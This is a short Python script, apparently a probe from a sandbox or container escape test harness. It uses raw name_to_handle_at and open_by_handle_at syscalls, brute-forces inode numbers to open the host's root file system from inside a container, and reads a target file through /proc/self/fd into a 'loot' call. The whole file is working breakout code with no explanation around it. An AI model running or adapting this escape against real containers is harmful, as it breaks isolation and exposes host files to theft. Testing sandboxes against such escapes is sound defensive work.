"""Opens files by their handles, guessing the numbers of the host's root and of what follows it."""
# walls: seccomp capabilities
# observe: unread word
# depth: yes
import ctypes
import os
import platform
import struct

libc = ctypes.CDLL(None, use_errno=True)
BY_NAME, OPEN = (264, 265) if platform.machine() == "aarch64" else (303, 304)
AT_FDCWD = -100

handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
mount_id = ctypes.c_int()
for path in ("/", os.__file__, "/tmp", "/proc/self/exe"):
    words = (ctypes.c_long(AT_FDCWD), path.encode(), handle, ctypes.byref(mount_id), ctypes.c_long(0))
    if libc.syscall(ctypes.c_long(BY_NAME), *words) == 0:
        gained(f"{path} has the handle {handle.raw[:24].hex()}")
    else:
        tried(f"handle of {path}: {os.strerror(ctypes.get_errno())}")

# Of a disk's file system the root's inode is 2, its generation 0.
held = os.open(os.__file__, os.O_RDONLY)
for inode in range(1, 64):
    guess = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, inode, 0))
    descriptor = libc.syscall(ctypes.c_long(OPEN), ctypes.c_long(held), guess, ctypes.c_long(os.O_RDONLY))
    if descriptor >= 0:
        gained(f"inode {inode} was opened")
        try:
            with open(f"/proc/self/fd/{descriptor}{aim.file}", "rb") as file:
                loot(file.read())
        except OSError as error:
            tried(f"from inode {inode}: {error.strerror}")
tried(f"inodes 1 to 63: {os.strerror(ctypes.get_errno())}")
